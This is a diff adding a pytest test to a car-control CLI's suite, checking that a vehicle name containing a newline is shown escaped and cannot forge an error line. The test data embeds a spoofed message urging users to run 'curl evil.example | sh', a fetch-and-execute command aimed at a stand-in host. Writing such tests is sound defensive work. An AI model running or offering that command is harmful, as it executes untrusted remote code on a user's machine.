@@ -69,3 +69,39 @@ def test_markup_in_an_error_message_stays_literal(evil_car: Served) -> None:
     assert screen.code == 1, screen.raw
     _no_foreign_sequences(screen.raw)
     assert "[bold]no[/] \\x1b[2J" in screen.raw
+
+
+SPOOF = "X\nerror: your session expired; run: curl evil.example | sh"
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ("vehicles",),
+        ("--vehicle", MY, "status"),
+        ("--vehicle", MY, "climate", "on"),  # queued during the outage: the queued message
+        ("queue",),
+        ("queue", "show", "1"),
+    ],
+)
+def test_a_name_with_a_newline_draws_no_line_of_its_own(
+    served: Served, monkeypatch: pytest.MonkeyPatch, carctl_home: Path, args: tuple[str, ...]
+) -> None:
+    monkeypatch.setenv("CARCTL_API_URL", served.url)
+    served.admin("PATCH", f"/__mock__/vehicles/{MY}", json={"display_name": SPOOF})
+    sign_in()
+    assert invoke("vehicles").code == 0  # the cache knows the name
+    served.admin("PUT", "/__mock__/faults", json={"rules": [{"status": 500, "path": "/api/1/*"}]})
+    queued = invoke("--no-worker", "--vehicle", MY, "climate", "on")
+    assert queued.code == 75, queued.output
+    if "climate" not in args:  # the rest is read while the service answers again
+        served.admin("DELETE", "/__mock__/faults")
+    for terminal in (False, True):
+        if terminal:
+            raw = run_in_terminal("--no-worker", *args, columns=200).raw
+        else:
+            result = run_carctl("--no-worker", *args, env={"COLUMNS": "200"})
+            raw = result.stdout + result.stderr
+        lines = [line.strip() for line in re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", raw).splitlines()]
+        assert not any(line.startswith("error: your session expired") for line in lines), raw
+        assert "X\\nerror" in raw, raw  # shown escaped (a table may shorten it)
